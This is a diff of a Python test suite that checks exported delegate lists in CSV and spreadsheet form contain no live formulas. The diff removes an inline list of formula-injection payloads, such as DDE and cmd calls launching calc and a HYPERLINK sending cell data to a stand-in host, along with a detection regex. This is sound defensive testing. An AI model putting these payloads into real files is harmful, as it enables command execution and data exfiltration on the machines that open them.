@@ -1,7 +1,6 @@
 from __future__ import annotations
 
 import csv
-import re
 import zipfile
 from dataclasses import replace
 from pathlib import Path
@@ -24,45 +23,13 @@ from app.journal.journal import Journal
 from tests.app.delegates.lists import ORDERS, write_list
 from tests.app.delegates.lists import everybody as stored
 from tests.building import EventBuilder, MovableClock, make_event
+from tests.formulas import MAIN, PAYLOADS, cells_of, live_in_csv, live_in_workbook
 
-CALLS = (
-    "=1+1",
-    "=SUM(A1:A9)",
-    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
-    "=cmd|'/c calc'!A1",
-    '=DDE("cmd";"/c calc";"x")',
-    '=WEBSERVICE("http://example.org")',
-    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")',
-    "+1+1",
-    "+cmd|'/c calc'!A1",
-    "-1+1",
-    "-2+3+cmd|'/c calc'!A1",
-    "@SUM(1+1)*cmd|'/c calc'!A1",
-    "@A1",
-    "=-1",
-    "==1",
-    "=@A1",
-    "=+1",
-    "-=1",
-    "+@1",
-    "@=1",
-)
-PAYLOADS = (
-    *CALLS,
-    *(f" {call}" for call in CALLS[:4]),
-    *(f"\u00a0{call}" for call in CALLS[:4]),
-    *(f"\t{call}" for call in CALLS[:3]),
-    *(f"\r{call}" for call in CALLS[:2]),
-    *(f"\n{call}" for call in CALLS[:2]),
-    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u3000＝1+1"),
-)
 TEXTS = (
     *("email", "phone", "function", "country", "city"),
     *("organisation", "delegation", "badge_type", "seeks", "offers", "note", "attention"),
     *("order_code", "kind", "status"),
 )
-MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-LIVE = re.compile(r"[\s\u00a0\u3000]*[=+\-@＝＋－＠]|[\t\r\n]")
 
 
 def export_delegates(journal: Journal, folder: Path) -> tuple[Path, Path]:
@@ -92,12 +59,11 @@ def test_no_text_field_becomes_a_live_formula(
 
     table, workbook = export_delegates(open_event.journal, tmp_path)
 
-    with table.open(encoding="utf-8-sig", newline="") as stream:
-        cells = [cell for row in csv.reader(stream) for cell in row]
-    assert [cell for cell in cells if LIVE.match(cell)] == []
+    cells = [cell for row in cells_of(table) for cell in row]
+    assert live_in_csv(table) == []
     assert sum(payload in cell for cell in cells) == len(TEXTS) + 5
+    assert live_in_workbook(workbook) == []
     sheet = sheet_of(workbook)
-    assert list(sheet.iter(f"{MAIN}f")) == []
     assert {cell.get("t") for cell in sheet.iter(f"{MAIN}c") if len(cell)} == {"s"}
 
 
